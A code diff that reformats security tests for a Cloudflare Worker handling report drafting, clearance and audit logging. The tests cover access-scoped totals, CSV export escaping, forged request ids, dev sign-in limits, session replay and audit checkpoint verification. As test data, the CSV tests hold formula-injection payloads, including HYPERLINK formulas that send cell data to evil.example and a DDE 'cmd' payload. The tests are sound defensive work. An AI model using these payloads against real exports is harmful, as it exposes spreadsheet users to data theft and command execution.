@@ -8,7 +8,14 @@ import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import wranglerToml from "../../wrangler.toml?raw";
 import { commitWithAudit } from "../../worker/audit/audit-log.ts";
-import { CHECKPOINT_PREFIX, checkpointKey, listCheckpoints, signedText, writeAuditCheckpoint, type CheckpointClaim } from "../../worker/audit/audit-checkpoints.ts";
+import {
+  CHECKPOINT_PREFIX,
+  checkpointKey,
+  listCheckpoints,
+  signedText,
+  writeAuditCheckpoint,
+  type CheckpointClaim,
+} from "../../worker/audit/audit-checkpoints.ts";
 import { loadSigner } from "../../worker/audit/audit-signing.ts";
 import { isLoopbackHost } from "../../worker/auth/dev-session.ts";
 import { database } from "../../worker/db/client.ts";
@@ -32,13 +39,18 @@ const lawEnforcement = async (userId: string) => {
 };
 
 const narrativeCount = async () =>
-  (await env.DB.prepare("SELECT COUNT(*) AS n FROM documents WHERE cycle_year = ? AND kind = 'country_narrative'").bind(TEST_CYCLE_YEAR).first<{ n: number }>())!.n;
+  (await env.DB.prepare("SELECT COUNT(*) AS n FROM documents WHERE cycle_year = ? AND kind = 'country_narrative'")
+    .bind(TEST_CYCLE_YEAR)
+    .first<{ n: number }>())!.n;
 
 describe("7. GET /api/cycles/:year/law-enforcement sums only the narratives the caller may read, and says when its sums are partial", () => {
   it("a country-scoped drafter reads neither other regions' totals nor another country's figures; leadership reads them all", async () => {
     // Eswatini is the only Africa narrative this file gives figures: its region's sum would be Eswatini's own figures.
     const version = await currentVersion(ESWATINI);
-    const put = await call(AS.drafterAF, `/api/documents/${ESWATINI}/figures`, { method: "PUT", body: { version, figures: { prosecutions: 913, convictions: 17, victimsIdentified: 4321 } } });
+    const put = await call(AS.drafterAF, `/api/documents/${ESWATINI}/figures`, {
+      method: "PUT",
+      body: { version, figures: { prosecutions: 913, convictions: 17, victimsIdentified: 4321 } },
+    });
     expect(put.status).toBe(200);
     const stored = await env.DB.prepare("SELECT * FROM law_enforcement_figures WHERE document_id = ?").bind(ESWATINI).first();
     const events = await eventCount();
@@ -48,11 +60,17 @@ describe("7. GET /api/cycles/:year/law-enforcement sums only the narratives the 
     const manama = await lawEnforcement(AS.embassyManama);
     expect(manama).toMatchObject({ partial: true, hiddenCountries: total - 1 });
     const region = (d: any, code: string) => d.current.regions.find((r: any) => r.regionCode === code);
-    expect(region(manama, "AF")).toMatchObject({ countries: 0, totals: { prosecutions: 0, convictions: 0, victimsIdentified: 0 }, reporting: { prosecutions: 0 } });
+    expect(region(manama, "AF")).toMatchObject({
+      countries: 0,
+      totals: { prosecutions: 0, convictions: 0, victimsIdentified: 0 },
+      reporting: { prosecutions: 0 },
+    });
     for (const code of ["AF", "EAP", "EUR", "SCA", "WHA"]) expect(region(manama, code).countries, code).toBe(0);
     expect(region(manama, "NEA").countries).toBe(1);
     expect(manama.current.global.countries).toBe(1);
-    const bahrain = await env.DB.prepare("SELECT prosecutions FROM law_enforcement_figures WHERE document_id = ?").bind(`${TEST_CYCLE_YEAR}-bahrain`).first<{ prosecutions: number | null }>();
+    const bahrain = await env.DB.prepare("SELECT prosecutions FROM law_enforcement_figures WHERE document_id = ?")
+      .bind(`${TEST_CYCLE_YEAR}-bahrain`)
+      .first<{ prosecutions: number | null }>();
     expect(manama.current.global.totals.prosecutions).toBe(bahrain?.prosecutions ?? 0);
 
     // A regional drafter sees their region's sum, not the others'.
@@ -87,7 +105,7 @@ describe("8. CSV exports escape formulas in every cell, including after a line b
       ["@cmd", "'@cmd"],
       ["\tx", "'\tx"],
       ["\rx", "'\rx"],
-      ["fine\n=HYPERLINK(\"http://evil.example\")", "'fine\n=HYPERLINK(\"http://evil.example\")"],
+      ['fine\n=HYPERLINK("http://evil.example")', '\'fine\n=HYPERLINK("http://evil.example")'],
       ["a\r\n+1", "'a\r\n+1"],
       ["a\r-1", "'a\r-1"],
       ["a\n\tb", "'a\n\tb"],
@@ -108,9 +126,20 @@ describe("8. CSV exports escape formulas in every cell, including after a line b
   });
 
   it("GET /api/audit/export?format=csv: a comment with a formula on its second line is defused; JSON lines and the trail keep exact values", async () => {
-    const payloads = ["Looks fine\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "ok\r\n+cmd|' /C calc'!A0", "ok\r-1+1", "ok\n@SUM(1)", "ok\n\tindent", "=1+1"];
+    const payloads = [
+      'Looks fine\n=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "ok\r\n+cmd|' /C calc'!A0",
+      "ok\r-1+1",
+      "ok\n@SUM(1)",
+      "ok\n\tindent",
+      "=1+1",
+    ];
     for (const [i, comment] of payloads.entries()) {
-      await commitWithAudit(database(env), { actor: { id: "csv-attacker", email: "csv.attacker@tip.example.gov" }, requestId: null }, { action: "test.csv_injection", subjectType: "test", subjectId: `inj-${i}`, comment });
+      await commitWithAudit(
+        database(env),
+        { actor: { id: "csv-attacker", email: "csv.attacker@tip.example.gov" }, requestId: null },
+        { action: "test.csv_injection", subjectType: "test", subjectId: `inj-${i}`, comment },
+      );
     }
     const events = await eventCount();
     const res = await call(AS.admin, "/api/audit/export?format=csv&action=test.csv_injection");
@@ -120,9 +149,14 @@ describe("8. CSV exports escape formulas in every cell, including after a line b
     expect(parsed.errors).toEqual([]);
     expect(parsed.data.map((r) => r.comment)).toEqual(payloads.map((p) => `'${p}`));
     // No cell of the file has a line that a spreadsheet would start as a formula.
-    for (const row of parsed.data) for (const cell of Object.values(row)) expect(/(^|[\r\n])[=+\-@\t\r]/.test(cell!) && !cell!.startsWith("'"), cell).toBe(false);
+    for (const row of parsed.data)
+      for (const cell of Object.values(row)) expect(/(^|[\r\n])[=+\-@\t\r]/.test(cell!) && !cell!.startsWith("'"), cell).toBe(false);
 
-    const jsonl = new TextDecoder().decode(await (await call(AS.admin, "/api/audit/export?format=jsonl&action=test.csv_injection")).arrayBuffer()).trim().split("\n").map((l) => JSON.parse(l));
+    const jsonl = new TextDecoder()
+      .decode(await (await call(AS.admin, "/api/audit/export?format=jsonl&action=test.csv_injection")).arrayBuffer())
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l));
     expect(jsonl.map((e) => e.comment)).toEqual(payloads);
     const { results } = await env.DB.prepare("SELECT comment FROM audit_events WHERE action = 'test.csv_injection' ORDER BY seq").all<{ comment: string }>();
     expect(results.map((r) => r.comment)).toEqual(payloads);
@@ -133,12 +167,17 @@ describe("8. CSV exports escape formulas in every cell, including after a line b
 describe("9. Request ids are made by the Worker, never taken from the client's X-Request-Id", () => {
   it("a forged X-Request-Id is ignored: the response, the error body and the audit trail carry the Worker's own id", async () => {
     const forged = "forged-request-id-0001";
-    const res = await call(AS.admin, "/api/admin/users", { body: { email: "request.id@tip.example.gov", name: "Request Id" }, headers: { "X-Request-Id": forged } });
+    const res = await call(AS.admin, "/api/admin/users", {
+      body: { email: "request.id@tip.example.gov", name: "Request Id" },
+      headers: { "X-Request-Id": forged },
+    });
     expect(res.status).toBe(201);
     const id = res.headers.get("X-Request-Id")!;
     expect(id).toMatch(UUID);
     expect(id).not.toBe(forged);
-    const { results } = await env.DB.prepare("SELECT request_id FROM audit_events WHERE action = 'user.create' AND details LIKE '%request.id@tip.example.gov%'").all<{ request_id: string }>();
+    const { results } = await env.DB.prepare(
+      "SELECT request_id FROM audit_events WHERE action = 'user.create' AND details LIKE '%request.id@tip.example.gov%'",
+    ).all<{ request_id: string }>();
     expect(results.map((r) => r.request_id)).toEqual([id]);
 
     const error = await call(AS.admin, "/api/no-such-route", { headers: { "X-Request-Id": forged } });
@@ -170,14 +209,29 @@ describe("10. Once clearance has started, a pending clearing office cannot be dr
 
     const attempts = [
       // L dropped
-      [{ officeCode: "AF", mode: "clear" }, { officeCode: "DRL", mode: "clear" }, { officeCode: "J", mode: "info" }],
+      [
+        { officeCode: "AF", mode: "clear" },
+        { officeCode: "DRL", mode: "clear" },
+        { officeCode: "J", mode: "info" },
+      ],
       // L made an information office
-      [{ officeCode: "AF", mode: "clear" }, { officeCode: "DRL", mode: "clear" }, { officeCode: "L", mode: "info" }, { officeCode: "J", mode: "info" }],
+      [
+        { officeCode: "AF", mode: "clear" },
+        { officeCode: "DRL", mode: "clear" },
+        { officeCode: "L", mode: "info" },
+        { officeCode: "J", mode: "info" },
+      ],
       // both pending offices gone, another added in their place
-      [{ officeCode: "AF", mode: "clear" }, { officeCode: "EUR", mode: "clear" }],
+      [
+        { officeCode: "AF", mode: "clear" },
+        { officeCode: "EUR", mode: "clear" },
+      ],
     ];
     for (const offices of attempts) {
-      const res = await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances/list`, { method: "PUT", body: { version: await currentVersion(MALAWI), offices, comment: "Legal is slow; we move on." } });
+      const res = await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances/list`, {
+        method: "PUT",
+        body: { version: await currentVersion(MALAWI), offices, comment: "Legal is slow; we move on." },
+      });
       expect(res.status, JSON.stringify(offices)).toBe(409);
       const { error } = await json(res);
       expect(error.code).toBe("office_pending");
@@ -193,7 +247,15 @@ describe("10. Once clearance has started, a pending clearing office cannot be dr
     // What stays allowed: changing an office that is not pending (J, informed) with a reason.
     const allowed = await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances/list`, {
       method: "PUT",
-      body: { version: await currentVersion(MALAWI), offices: [{ officeCode: "AF", mode: "clear" }, { officeCode: "DRL", mode: "clear" }, { officeCode: "L", mode: "clear" }], comment: "J needs no copy." },
+      body: {
+        version: await currentVersion(MALAWI),
+        offices: [
+          { officeCode: "AF", mode: "clear" },
+          { officeCode: "DRL", mode: "clear" },
+          { officeCode: "L", mode: "clear" },
+        ],
+        comment: "J needs no copy.",
+      },
     });
     expect(allowed.status).toBe(200);
     expect((await json(allowed)).pending.sort()).toEqual(["DRL", "L"]);
@@ -201,13 +263,20 @@ describe("10. Once clearance has started, a pending clearing office cannot be dr
     // The only way past L: leadership proceeds without it, on the record as not concurred.
     expect((await act(AS.leadership, MALAWI, "proceed_without", { office: "L", comment: "Legal review overdue; release deadline." })).status).toBe(200);
     const done = await clearances();
-    expect(done.offices.find((o: any) => o.officeCode === "L")).toMatchObject({ status: "not_concurred", clearance: { outcome: "not_concurred", userId: AS.leadership } });
+    expect(done.offices.find((o: any) => o.officeCode === "L")).toMatchObject({
+      status: "not_concurred",
+      clearance: { outcome: "not_concurred", userId: AS.leadership },
+    });
   });
 });
 
 describe("11. Development sign-in only where it is safe; sign-out ends the session on the server", () => {
   const login = (url: string, bindings?: Env) => {
-    const init = { method: "POST", headers: { Origin: new URL(url).origin, "Content-Type": "application/json" }, body: JSON.stringify({ email: "admin@tip.example.gov" }) };
+    const init = {
+      method: "POST",
+      headers: { Origin: new URL(url).origin, "Content-Type": "application/json" },
+      body: JSON.stringify({ email: "admin@tip.example.gov" }),
+    };
     return bindings ? fetchWith(bindings, url, init) : SELF.fetch(url, init);
   };
   const sessions = async () => (await env.DB.prepare("SELECT COUNT(*) AS n FROM dev_sessions").first<{ n: number }>())!.n;
@@ -215,7 +284,8 @@ describe("11. Development sign-in only where it is safe; sign-out ends the sessi
 
   it("loopback hosts only: 127.0.0.0/8, localhost, [::1]", () => {
     for (const host of ["127.0.0.1", "127.1.2.3", "localhost", "LOCALHOST", "[::1]"]) expect(isLoopbackHost(host), host).toBe(true);
-    for (const host of ["tip.example.gov", "127.0.0.1.nip.io", "localhost.evil.example", "128.0.0.1", "10.0.0.1", "[::2]", "0.0.0.0", "127.0.0.256"]) expect(isLoopbackHost(host), host).toBe(false);
+    for (const host of ["tip.example.gov", "127.0.0.1.nip.io", "localhost.evil.example", "128.0.0.1", "10.0.0.1", "[::2]", "0.0.0.0", "127.0.0.256"])
+      expect(isLoopbackHost(host), host).toBe(false);
   });
 
   it("AUTH_MODE=dev on a public host, with Access configured, or with a short SESSION_SECRET: sign-in refused with 503 dev_auth_refused, cookies ignored, nothing written", async () => {
@@ -239,7 +309,9 @@ describe("11. Development sign-in only where it is safe; sign-out ends the sessi
       // The user list is refused too, and a dev cookie is no identity there.
       const users = bindings ? await fetchWith(bindings, new URL("/auth/dev/users", url).href) : await SELF.fetch(new URL("/auth/dev/users", url).href);
       expect(users.status).toBe(503);
-      const me = bindings ? await fetchWith(bindings, new URL("/api/me", url).href, { headers: { Cookie: cookie } }) : await SELF.fetch(new URL("/api/me", url).href, { headers: { Cookie: cookie } });
+      const me = bindings
+        ? await fetchWith(bindings, new URL("/api/me", url).href, { headers: { Cookie: cookie } })
+        : await SELF.fetch(new URL("/api/me", url).href, { headers: { Cookie: cookie } });
       expect(me.status, url).toBe(401);
     }
     expect({ sessions: await sessions(), logins: await logins() }).toEqual({ sessions: before.sessions + 1, logins: before.logins });
@@ -259,13 +331,19 @@ describe("11. Development sign-in only where it is safe; sign-out ends the sessi
     const out = await SELF.fetch(`${ORIGIN}/auth/logout`, { method: "POST", headers: { Origin: ORIGIN, Cookie: captured } });
     expect(out.status).toBe(200);
     expect(out.headers.get("Set-Cookie")).toMatch(/tip_session=;.*Max-Age=0/i);
-    expect(await env.DB.prepare("SELECT ended_at FROM dev_sessions WHERE id = ?").bind(sessionId).first<{ ended_at: string | null }>()).toMatchObject({ ended_at: expect.any(String) });
+    expect(await env.DB.prepare("SELECT ended_at FROM dev_sessions WHERE id = ?").bind(sessionId).first<{ ended_at: string | null }>()).toMatchObject({
+      ended_at: expect.any(String),
+    });
 
     // Replaying the captured cookie: no identity anywhere, nothing done.
     const users = await eventCount();
     const me = await SELF.fetch(`${ORIGIN}/api/me`, { headers: { Cookie: captured } });
     expect(me.status).toBe(401);
-    const create = await SELF.fetch(`${ORIGIN}/api/admin/users`, { method: "POST", headers: { Origin: ORIGIN, Cookie: captured, "Content-Type": "application/json" }, body: JSON.stringify({ email: "replay@tip.example.gov", name: "Replay" }) });
+    const create = await SELF.fetch(`${ORIGIN}/api/admin/users`, {
+      method: "POST",
+      headers: { Origin: ORIGIN, Cookie: captured, "Content-Type": "application/json" },
+      body: JSON.stringify({ email: "replay@tip.example.gov", name: "Replay" }),
+    });
     expect(create.status).toBe(401);
     const room = await openRoomResponse(null, `${TEST_CYCLE_YEAR}-afghanistan`, { Cookie: captured });
     expect(room.status).toBe(401);
@@ -278,7 +356,9 @@ describe("11. Development sign-in only where it is safe; sign-out ends the sessi
 
 describe("12. GET /api/audit/verify answers ok: false with a reason when it cannot vouch for the chain", () => {
   const verify = async (bindings?: Env) => {
-    const res = bindings ? await fetchWith(bindings, `${ORIGIN}/api/audit/verify`, { headers: { Cookie: await sessionCookie(AS.admin) } }) : await call(AS.admin, "/api/audit/verify");
+    const res = bindings
+      ? await fetchWith(bindings, `${ORIGIN}/api/audit/verify`, { headers: { Cookie: await sessionCookie(AS.admin) } })
+      : await call(AS.admin, "/api/audit/verify");
     expect(res.status).toBe(200);
     return json(res);
   };
@@ -289,7 +369,8 @@ describe("12. GET /api/audit/verify answers ok: false with a reason when it cann
     let cursor: string | undefined;
     do {
       const page = await env.AUDIT_CHECKPOINTS.list({ prefix: CHECKPOINT_PREFIX, cursor, include: ["customMetadata"] });
-      for (const o of page.objects) saved.push({ key: o.key, body: await (await env.AUDIT_CHECKPOINTS.get(o.key))!.text(), customMetadata: o.customMetadata ?? {} });
+      for (const o of page.objects)
+        saved.push({ key: o.key, body: await (await env.AUDIT_CHECKPOINTS.get(o.key))!.text(), customMetadata: o.customMetadata ?? {} });
       cursor = page.truncated ? page.cursor : undefined;
     } while (cursor);
     await env.AUDIT_CHECKPOINTS.delete(saved.map((s) => s.key));
@@ -333,7 +414,11 @@ describe("12. GET /api/audit/verify answers ok: false with a reason when it cann
 
   it("the newest checkpoint older than two hours: ok false, checkpoint_stale", async () => {
     const events = await eventCount();
-    const head = (await env.DB.prepare("SELECT seq, hash, (SELECT COUNT(*) FROM audit_events) AS events FROM audit_events ORDER BY seq DESC LIMIT 1").first<{ seq: number; hash: string; events: number }>())!;
+    const head = (await env.DB.prepare("SELECT seq, hash, (SELECT COUNT(*) FROM audit_events) AS events FROM audit_events ORDER BY seq DESC LIMIT 1").first<{
+      seq: number;
+      hash: string;
+      events: number;
+    }>())!;
     const signer = (await loadSigner(env.AUDIT_SIGNING_KEY))!;
     const putSigned = async (at: string) => {
       const claim: CheckpointClaim = { seq: head.seq, headHash: head.hash, events: head.events, at, reason: "schedule" };
